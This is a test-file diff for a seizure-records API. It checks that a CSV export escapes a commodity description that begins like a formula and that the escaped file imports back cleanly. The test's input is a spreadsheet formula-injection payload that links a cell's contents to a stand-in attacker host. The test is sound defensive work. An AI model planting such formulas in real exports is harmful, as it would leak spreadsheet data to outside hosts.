@@ -92,6 +92,23 @@ describe('seizure export', () => {
     expect(again.validated).toMatchObject({ validRows: 6, errorRows: 0, alreadyStored: 6 });
   });
 
+  it('writes a description that starts like a formula as text, and the export imports back to the same text', async () => {
+    const be = await signIn(t, ['ncp'], { country: 'BE' });
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    const body = cocaineSeizure({ country: 'BE', placeLocode: 'BEANR', route: [], externalRef: 'BE-FORMULA', lng: -3.5, lat: 51.2 });
+    body.commodities[0] = { ...body.commodities[0], description: formula };
+    const created = await be.client.post('/api/v1/seizures', { ...body, acceptNominalWarnings: true });
+    expect(created.status, JSON.stringify(created.body)).toBe(201);
+    const csv = await download(be.client, '/api/v1/seizures/export?format=csv');
+    const rows: string[][] = parse(csv.data, { bom: true });
+    const row = Object.fromEntries(rows[0].map((h, i) => [h, rows[1][i]]));
+    expect(row.commodity_1_description).toBe(`'${formula}`);
+    expect(row.lng).toBe('-3.5');
+    expect(csv.data.toString('utf8')).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    const back = await uploadAndValidate(be.client, 'export.csv', csv.data);
+    expect(back.validated).toMatchObject({ validRows: 1, alreadyStored: 1 });
+  });
+
   it('gives the template as XLSX with a sheet describing the fields, and its rows validate', async () => {
     const fr = await signIn(t, ['ncp'], { country: 'FR' });
     const tpl = await download(fr.client, '/api/v1/seizures/import-template?format=xlsx');
